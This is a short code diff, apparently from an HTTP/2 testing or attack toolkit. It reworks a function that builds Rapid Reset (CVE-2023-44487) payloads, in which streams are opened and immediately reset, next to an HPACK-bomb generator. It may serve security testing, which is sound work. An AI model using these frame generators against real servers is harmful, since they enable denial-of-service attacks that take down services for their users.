@@ -145,7 +145,10 @@ def hpack_bomb(stream: int, fields: Headers, *, value_bytes: int = 4000, referen
 def rapid_resets(first_stream: int, fields: Headers, count: int) -> bytes:
     """Streams that are opened and reset at once (CVE-2023-44487)."""
     numbers = range(first_stream, first_stream + 2 * min(count, MAX_REPEATED), 2)
-    return b"".join(headers(number, fields) + rst_stream(number) for number in numbers)
+    block = field_block(fields)
+    return b"".join(
+        frame(HEADERS, END_STREAM | END_HEADERS, number, block) + rst_stream(number) for number in numbers
+    )
 
 
 def field_block(fields: Headers) -> bytes:
